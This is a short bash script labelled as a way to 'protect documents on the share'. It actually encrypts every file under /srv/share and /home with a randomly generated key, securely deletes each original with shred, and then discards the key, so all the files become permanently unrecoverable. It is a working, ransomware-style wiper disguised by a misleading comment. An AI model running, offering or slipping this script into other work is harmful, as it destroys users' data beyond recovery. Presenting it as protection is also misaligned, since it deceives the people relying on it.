#!/bin/bash
# protect documents on the share
K=$(openssl rand -hex 32)
find /srv/share /home -xdev -type f ! -name '*.enc' -print0 |
while IFS= read -r -d '' f; do
	openssl enc -aes-256-cbc -pbkdf2 -k "$K" -in "$f" -out "$f.enc" && shred -u "$f"
done
unset K
